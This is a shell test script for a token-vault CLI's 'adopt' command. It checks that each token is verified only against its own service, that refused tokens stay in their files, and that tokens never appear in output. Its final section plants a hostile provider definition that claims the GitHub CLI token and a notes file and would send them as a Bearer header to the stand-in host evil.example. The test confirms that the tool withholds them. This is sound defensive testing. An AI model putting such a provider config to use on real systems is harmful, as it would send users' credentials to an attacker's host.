# Adopting asks the services: what they refuse stays where it is, what can't be asked about is taken in all
# the same, and no token goes anywhere but to its service.
. "$(dirname "$0")/../lib.sh"
. "$TESTS/service/lib.sh"
need_service
. "$TESTS/mount/vault.sh"
sandbox
write_needles
k() {
	as_user "$BIN/tokenvault" --keyfile "$HOME/.key" "$@"
}
put() {
	as_user sh -c 'mkdir -p "${1%/*}" && cat >"$1"' sh "$HOME/$1"
}
asked() {
	service_log "$@" | grep -c . || :
}
check "init" k init
tv() {
	k "$@"
}
use_service
API7=.api7cloud/config
put "$API7" <<END
default_profile: ci
profiles:
    - name: ci
      address: https://api.api7.cloud
      user:
        access_token: $API7_CI
    - name: prod
      address: https://api.api7.cloud
      user:
        access_token: $API7_PROD
END
printf "Token = '%s'\n" "$AZION" | put .azion/default/settings.toml
printf '%s\n' "$CHOREO" | put .choreo/token
service_accepts api7 "$API7_CI"
service_accepts azion "$AZION"
service_mode apis.choreo.dev 500

service_forget
check_exit 0 "a dry run" k adopt --dry-run
same "asks nobody" "$(asked)" 0
cp "$HOME/$API7" "$SANDBOX/before"
check_exit 21 "one token is refused, one good, one can't be asked about" k adopt --no-mount
like "the refused one is named" "$ERR" 'service refuses the token: api7/prod in .*\.api7cloud/config'
like "and how to take it all the same" "$ERR" '--no-verify'
check "its file is as it was" cmp "$SANDBOX/before" "$HOME/$API7"
same "none of its tokens is stored" "$(k list api7 --json | grep -c '"label"')" 0
same "the good one is" "$(k show azion)" "$AZION"
same "its file is gone" "$(ls "$HOME/.azion/default/settings.toml" 2>/dev/null)" ""
like "verified, with its account" "$(k list azion)" '@'
same "the one that can't be asked about is stored" "$(k show choreo)" "$CHOREO"
like "and said" "$ERR" 'choreo/default is adopted, but not verified'
same "no token is shown" "$(printf '%s' "$OUT$ERR" | grep -cFf "$SANDBOX/needles")" 0
service_forget
check_exit 21 "again" k adopt --no-mount
same "asks about those that are not in the vault, and no others" \
	"$(asked api.api7.cloud) $(asked sso.azion.com)" "2 0"
service_forget
check_exit 0 "--no-verify takes it" k adopt --no-verify --no-mount
same "and asks nobody" "$(asked)" 0
same "the refused token" "$(k show api7/prod)" "$API7_PROD"
same "the file is gone" "$(ls "$HOME/$API7" 2>/dev/null)" ""

# ---- a definition from elsewhere, which says that others' tokens are its service's
put .config/tokenvault/providers/aaa.json <<'END'
{
	"name": "aaa", "title": "A service",
	"verify": [{"base": "https://evil.example", "path": "/", "headers": ["Authorization: Bearer {{token}}"]}],
	"files": [
		{"name": "gh", "path": ".config/gh/hosts.yml", "shows": "in-use", "escape": "none",
		 "adopt": {"format": "yaml", "token": "/github.com/oauth_token"}, "template": "{{token}}"},
		{"name": "notes", "path": ".notes", "shows": "in-use", "escape": "none",
		 "adopt": {"format": "raw", "token": ""}, "template": "{{token}}"}
	]
}
END
printf 'github.com:\n    user: me\n    oauth_token: gho_of_mine\n    git_protocol: https\n' |
	put .config/gh/hosts.yml
printf 'something-else' | put .notes
service_accepts other gho_of_mine something-else
service_forget
check_exit 0 "adopt all" k adopt --keep
like "a built-in's path stays its own" "$OUT" 'hosts\.yml.github/github\.com.kept'
like "what is another's is not sent" "$ERR" 'may be sent to evil\.example; .*set aaa/default --pin'
same "to nobody at all" "$(asked evil.example)" 0
check_exit 8 "nor afterwards" k verify aaa
same "to nobody either" "$(asked evil.example)" 0
check "away with it" k remove aaa
check_exit 0 "who is asked for by name" k adopt --keep aaa
same "is asked" "$(asked evil.example)" 2
finish
